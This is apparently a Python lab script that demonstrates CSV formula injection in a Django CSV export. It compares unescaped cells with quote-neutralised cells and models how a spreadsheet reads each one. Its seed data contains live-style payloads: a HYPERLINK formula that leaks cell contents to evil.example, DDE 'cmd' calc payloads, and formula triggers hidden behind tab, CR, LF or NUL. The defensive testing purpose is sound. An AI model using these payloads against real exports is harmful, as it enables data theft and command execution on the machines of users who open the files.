"""csv-formula-injection in Django 5.2: the docs' CSV view over a table of typed-in text.

Stores the lab's twelve contacts (as their owners typed them, the same as `src/model.rs`)
in SQLite, exports them with the view of Django's "How to create CSV output" page -
`csv.writer` over an `HttpResponse` - writing each cell as typed (`broken`) or with a
leading "'" before a formula trigger (`fixed`), reads the file back with Python's csv
reader and judges every typed-in cell with the lab's spreadsheet model
(`src/spreadsheet.rs`, written out again below). Prints the same four facts as the lab.
"""

import csv
import io
import json
import re
import sys

import django
from django.conf import settings

settings.configure(
    INSTALLED_APPS=[],
    DATABASES={"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": ":memory:"}},
    DEFAULT_AUTO_FIELD="django.db.models.AutoField",
    USE_TZ=False,
)
django.setup()

from django.db import connection, models  # noqa: E402
from django.http import HttpResponse  # noqa: E402


class Contact(models.Model):
    name = models.TextField()
    phone = models.TextField()
    note = models.TextField()

    class Meta:
        app_label = "crm"


SEED = [
    ("Ada Lovelace", "+44 20 7946 0958", "met at the London meetup"),
    ("Hopper, Grace", "555-0100", 'says "call after 5", mornings busy'),
    ("Linus Rating", "555 0199", "-5"),
    ("Zoë Ångström", "+46 8 123 456", "- prefers email\n- no calls on Fridays"),
    ('=HYPERLINK("https://evil.example/?leak="&C2&C3,"Ada\'s profile")', "555 0105",
     "nice to meet you"),
    ("Mallory", "555 0106", "=cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "555 0107", ""),
    ("Eve", "+1+cmd|' /C calc'!A0", "call me"),
    ("Tab Leader", "555 0109", "\t=1+2"),
    ("Return Leader", "555 0110", "\r=1+2"),
    ("Newline Leader", "555 0111", "\n=1+2"),
    ("Nul Leader", "555 0112", "\0=1+2"),
]
COLUMNS = ["id", "name", "phone", "note"]

# The guard a Django user adds: OWASP's triggers and NUL (ASVS 5.0 V1.2.10).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def neutralise(value):
    text = str(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def export_contacts(guard):
    """The docs' view over the contacts, each cell as typed or neutralised."""
    response = HttpResponse(
        content_type="text/csv",
        headers={"Content-Disposition": 'attachment; filename="contacts.csv"'},
    )
    writer = csv.writer(response)
    writer.writerow(COLUMNS)
    for c in Contact.objects.order_by("id"):
        cells = [c.id, c.name, c.phone, c.note]
        writer.writerow([neutralise(v) for v in cells] if guard else cells)
    return response


NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?")


def interpret(field):
    """The lab's spreadsheet model: a leading "'" makes text; after a leading tab, CR, LF
    or NUL, a field that starts with = + - @ is a formula unless it is a plain number."""
    if field.startswith("'"):
        return {"Text": field[1:]}
    body = field.lstrip("\t\r\n\0")
    if NUMBER.fullmatch(body):
        return {"Number": body}
    if body.startswith(("=", "+", "-", "@")):
        return {"Formula": body}
    return {"Text": field}


def facts(guard):
    rows = list(csv.reader(io.StringIO(export_contacts(guard).content.decode(), newline="")))
    formulas = numbers = quoted = 0
    listed = []
    for row, contact in enumerate(Contact.objects.order_by("id"), start=1):
        for column, typed in enumerate([contact.name, contact.phone, contact.note], start=1):
            written = rows[row][column]
            cell = interpret(written)
            formulas += "Formula" in cell
            numbers += "Number" in cell
            quoted += written == "'" + typed
            if written == typed and cell == {"Text": typed}:
                continue
            listed.append({"cell": f"{'ABCD'[column]}{row + 1}", "typed": typed,
                           "in_file": written, "opens_as": cell})
    return {
        "formulas_evaluated": formulas,
        "read_as_numbers": numbers,
        "written_with_a_leading_quote": quoted,
        "cells_not_written_or_shown_as_typed": listed,
    }


def main():
    lab = json.load(sys.stdin)
    with connection.schema_editor() as editor:
        editor.create_model(Contact)
    Contact.objects.bulk_create(
        Contact(id=i, name=n, phone=p, note=t) for i, (n, p, t) in enumerate(SEED, start=1))
    ran = [v["name"] for v in lab["variants"] if "observations" in v]
    variants = {name: facts(guard=name != "broken") for name in ran}
    json.dump({"scenario": lab["id"], "variants": variants}, sys.stdout, indent=2)


main()
